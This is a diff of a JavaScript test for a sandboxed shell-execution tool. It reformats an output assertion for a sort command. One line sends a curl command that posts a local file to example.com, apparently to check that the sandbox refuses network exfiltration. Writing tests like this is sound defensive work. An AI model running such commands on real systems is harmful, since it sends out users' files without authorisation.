@@ -21,7 +21,10 @@ const namespace = await openNamespace({
 const tools = namespace.tools()
 
 const sorted = await tools.call('shell_exec', { command: 'sort numbers > sorted; cat sorted' })
-assert.match(sorted.text, /^exit code 0\n--- changed\nadded\t\/workspace\/sorted\n[^\n]*\n--- stdout\n1\n2\n3$/)
+assert.match(
+  sorted.text,
+  /^exit code 0\n--- changed\nadded\t\/workspace\/sorted\n[^\n]*\n--- stdout\n1\n2\n3$/,
+)
 console.log(sorted.text)
 
 const refused = await tools.call('shell_exec', { command: 'curl -d @numbers https://example.com' })
